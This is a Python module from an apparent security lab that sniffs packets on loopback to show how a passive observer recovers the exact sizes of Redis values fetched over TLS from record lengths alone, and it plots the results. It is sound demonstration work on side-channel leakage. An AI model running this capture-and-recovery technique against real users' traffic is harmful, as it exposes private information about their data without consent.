"""Traffic analysis: recover the sizes of values a client GETs over TLS from record lengths alone.

TLS hides content, not size. An AEAD record carries its plaintext plus a fixed overhead (TLS 1.3: 16-byte tag
+ 1 inner content-type byte; TLS 1.2 AES-GCM: 8-byte explicit nonce + 16-byte tag), and a Redis bulk reply is
`$<n>\\r\\n<value>\\r\\n`, so a passive observer who sees one reply's records knows n exactly.
"""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from lab.attacks.safety import require_loopback
from lab.attacks.sniff import client_ports, sniffing
from lab.attacks.victim import Victim

APPLICATION_DATA = 23
HANDSHAKE = 22
ALERT_LEN = 2
AEAD_OVERHEAD = {"TLSv1.3": 17, "TLSv1.2": 24}


@dataclass(frozen=True)
class Record:
    time: float
    content_type: int
    length: int  # the record's length field (ciphertext length)


@dataclass(frozen=True)
class SizeLeak:
    tls_version: str
    true_sizes: tuple[int, ...]
    recovered_sizes: tuple[int | None, ...]
    exact: int  # how many were recovered to the byte
    correlation: float  # Pearson r between true and recovered sizes
    figure: Path | None


def records(packets: Sequence[Any], sport: int, dport: int) -> list[Record]:
    """TLS records one side sent, each stamped with the arrival time of the packet holding its header."""
    from scapy.layers.inet import TCP

    pieces: dict[int, tuple[bytes, float]] = {}
    for p in packets:
        if TCP in p and p[TCP].sport == sport and p[TCP].dport == dport and len(p[TCP].payload):
            pieces.setdefault(p[TCP].seq, (bytes(p[TCP].payload), float(p.time)))
    data = bytearray()
    times: list[float] = []  # time of each byte
    expected = None
    for seq in sorted(pieces):
        chunk, stamp = pieces[seq]
        if expected is not None and seq < expected:
            chunk = chunk[expected - seq :]
        data += chunk
        times += [stamp] * len(chunk)
        expected = seq + len(pieces[seq][0]) if expected is None else max(expected, seq + len(pieces[seq][0]))
    out, pos = [], 0
    while pos + 5 <= len(data):
        length = int.from_bytes(data[pos + 3 : pos + 5], "big")
        out.append(Record(times[pos], data[pos], length))
        pos += 5 + length
    return out


def tls_version(server_records_bytes: bytes) -> str:
    """TLS 1.3 if the ServerHello carries supported_versions = 0x0304, else TLS 1.2 (what the wire shows)."""
    return "TLSv1.3" if b"\x00\x2b\x00\x02\x03\x04" in server_records_bytes[:512] else "TLSv1.2"


def bulk_size(plaintext_len: int) -> int | None:
    """n such that len(f"${n}\\r\\n") + n + 2 == plaintext_len (None if no n fits: not a bulk reply)."""
    for digits in range(1, 11):
        n = plaintext_len - digits - 5
        if n >= 0 and len(str(n)) == digits:
            return n
    return None


def response_sizes(client: Sequence[Record], server: Sequence[Record], overhead: int) -> list[int | None]:
    """Per client request record: the value size recovered from the server records that answered it."""
    requests = [r for r in client if r.content_type == APPLICATION_DATA]
    # In TLS 1.3 an alert (close_notify) travels as application data: 2 bytes of plaintext. No bulk reply is
    # that short, so the observer drops it.
    answers = [r for r in server if r.content_type == APPLICATION_DATA and r.length - overhead != ALERT_LEN]
    out: list[int | None] = []
    for i, request in enumerate(requests):
        until = requests[i + 1].time if i + 1 < len(requests) else float("inf")
        plain = sum(r.length - overhead for r in answers if request.time <= r.time < until)
        out.append(bulk_size(plain) if plain > 0 else None)
    return out


def pearson(xs: Sequence[float], ys: Sequence[float]) -> float:
    if len(xs) < 2 or statistics.pstdev(xs) == 0 or statistics.pstdev(ys) == 0:
        return 0.0
    return statistics.correlation(xs, ys)


def plot(true_sizes: Sequence[int], recovered: Sequence[int | None], r: float, version: str,
         out: Path) -> Path:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    pairs = [(t, g) for t, g in zip(true_sizes, recovered, strict=True) if g is not None]
    fig, ax = plt.subplots(figsize=(5.5, 4.5))
    ax.scatter([t for t, _ in pairs], [g for _, g in pairs], s=18, label="recovered from record lengths")
    top = max(true_sizes) if true_sizes else 1
    ax.plot([0, top], [0, top], linestyle="--", linewidth=1, color="grey", label="exact")
    ax.set_xlabel("value size the client fetched (bytes)")
    ax.set_ylabel("size recovered by a passive observer (bytes)")
    ax.set_title(f"{version}: TLS hides content, not size (r = {r:.4f})")
    ax.legend(loc="upper left")
    fig.tight_layout()
    out.parent.mkdir(parents=True, exist_ok=True)
    fig.savefig(out)
    plt.close(fig)
    return out


def analyse_sizes(host: str, tls_port: int, ca: Path, password: str | None = None, count: int = 40,
                  max_size: int = 40_000, seed: int = 7, figure: Path | None = None,
                  allow_non_loopback: bool = False) -> SizeLeak:
    """A victim SETs values of random sizes, then GETs them over TLS; recover the sizes from the capture."""
    require_loopback(host, allow_non_loopback=allow_non_loopback)
    rng = random.Random(seed)
    sizes = [rng.randint(1, max_size) for _ in range(count)]
    loader = Victim(host, tls_port, ca, password)
    try:
        for i, size in enumerate(sizes):
            loader.call("SET", f"leak:{i}", "v" * size)
    finally:
        loader.close()
    with sniffing(tls_port, host, allow_non_loopback) as packets:
        victim = Victim(host, tls_port, ca, password)
        try:
            victim.call("PING")
            time.sleep(0.1)  # session tickets and the handshake tail settle before the GETs
            for i in range(count):
                victim.call("GET", f"leak:{i}")
                time.sleep(0.005)  # one request in flight at a time, as an interactive app does
        finally:
            victim.close()
        time.sleep(0.2)
        seen = list(packets)
    port = client_ports(seen, tls_port)[0]
    client = records(seen, port, tls_port)
    server = records(seen, tls_port, port)
    from scapy.layers.inet import TCP

    first_server = b"".join(bytes(p[TCP].payload) for p in seen[:40] if TCP in p and p[TCP].sport == tls_port)
    version = tls_version(first_server)
    recovered = response_sizes(client, server, AEAD_OVERHEAD[version])[-count:]
    # A request whose packets the sniffer missed (a loaded host) is a size not recovered, not a crash.
    missed: list[int | None] = [None] * (count - len(recovered))
    recovered = missed + recovered
    exact = sum(1 for t, g in zip(sizes, recovered, strict=True) if t == g)
    r = pearson([float(s) for s in sizes], [float(g or 0) for g in recovered])
    fig = plot(sizes, recovered, r, version, figure) if figure is not None else None
    return SizeLeak(version, tuple(sizes), tuple(recovered), exact, r, fig)
